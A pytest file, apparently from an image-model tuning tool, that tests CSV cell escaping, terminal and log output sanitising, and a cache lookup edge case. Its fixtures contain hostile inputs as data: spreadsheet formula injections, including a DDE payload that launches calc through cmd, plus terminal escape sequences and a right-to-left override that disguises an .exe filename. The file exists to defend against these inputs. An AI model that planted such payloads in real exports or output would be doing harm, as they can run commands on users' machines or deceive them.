    "equals": ("=1+1", "'=1+1"),
    "plus": ("+A1", "'+A1"),
    "minus_dde": ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    "at": ("@SUM(A1)", "'@SUM(A1)"),
    "tab": ("\t=1", "'\t=1"),
    "carriage_return": ("\r=1", "'\r=1"),
    "lone_minus": ("-", "'-"),
    "number_then_formula": ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
    "number_then_newline": ("-1\n=2", "'-1\n=2"),
    "superscript_is_no_number": ("-²", "'-²"),
    "negative_float": (-0.5, -0.5),
    "negative_int": (-5, -5),
    "negative_number_text": ("-0.5", "-0.5"),
    "exponent_text": ("-1e-3", "-1e-3"),
    "signed_number_text": ("+5", "+5"),
    "plain_name": ("resnet18", "resnet18"),
    "equals_inside": ("a=b", "a=b"),
    "quoted_text": ("'hello", "'hello"),
    "quoted_formula": ("'=1", "''=1"),  # one more quote: read back, it is "'=1" again
    "empty": ("", ""),
    "none": (None, None),
}


@pytest.mark.parametrize("case", list(CSV_CELLS))
def test_csv_cell(case: str) -> None:
    value, written = CSV_CELLS[case]
    assert csvsafe.cell(value) == written and type(csvsafe.cell(value)) is type(written)
    if isinstance(value, str):
        assert csvsafe.unescape(written) == value


# (name, what the terminal shows): control characters escaped, printable text as it is.
TERMINAL_TEXT: dict[str, tuple[str, str]] = {
    "csi_clear_screen": ("\x1b[2J", "\\x1b[2J"),
    "osc_window_title": ("\x1b]0;owned\x07", "\\x1b]0;owned\\x07"),
    "c1_csi": ("\x9b31m", "\\x9b31m"),
    "delete": ("a\x7fb", "a\\x7fb"),
    "newline_cr_tab": ("a\nb\rc\td", "a\\nb\\rc\\td"),
    "bidi_override": ("cat\u202egpj.exe", "cat\\u202egpj.exe"),
    "line_separator": ("a\u2028b", "a\\u2028b"),
    "undecodable_byte": ("a\udcffb", "a\\udcffb"),  # os.fsdecode(b"a\xffb"): print() would raise
    "non_ascii_kept": ("².jpg é 猫", "².jpg é 猫"),
    "backslash_kept": ("C:\\x1b", "C:\\x1b"),
}


@pytest.mark.parametrize("case", list(TERMINAL_TEXT))
def test_terminal_text(case: str) -> None:
    name, shown = TERMINAL_TEXT[case]
    assert printable(name) == shown
    if "\n" not in name:  # a multi-line message keeps its line breaks, escapes all else
        assert printable_lines(f"one {name}\ntwo") == f"one {shown}\ntwo"


def test_log_lines_are_escaped_too() -> None:
    try:
        raise OSError("cannot open \x1b[2Jx.jpg")
    except OSError:
        record = logging.LogRecord("tuner", logging.WARNING, __file__, 1, "skipping %s", ("\x1b]0;t\x07",),
                                   sys.exc_info())
    line = EscapingFormatter("%(levelname)s %(message)s").format(record)
    assert line.startswith("WARNING skipping \\x1b]0;t\\x07\nTraceback") and "\\x1b[2Jx.jpg" in line
    assert [c for c in line if not c.isprintable() and c != "\n"] == []


def test_a_cache_manifest_named_with_a_non_ascii_digit_is_ignored(tmp_path: Path) -> None:
    # The same int()-of-isdigit() bug as `².jpg` in predict: every trial's data loading raised.
    (tmp_path / "train" / "cls").mkdir(parents=True)
    Image.new("RGB", (8, 8)).save(tmp_path / "train" / "cls" / "1.jpg")
    directory = cache_paths(tmp_path / "train", 32).directory
    directory.mkdir()
    (directory / "train_².parquet").write_bytes(b"")
    assert find_cache(str(tmp_path / "train"), 32) is None
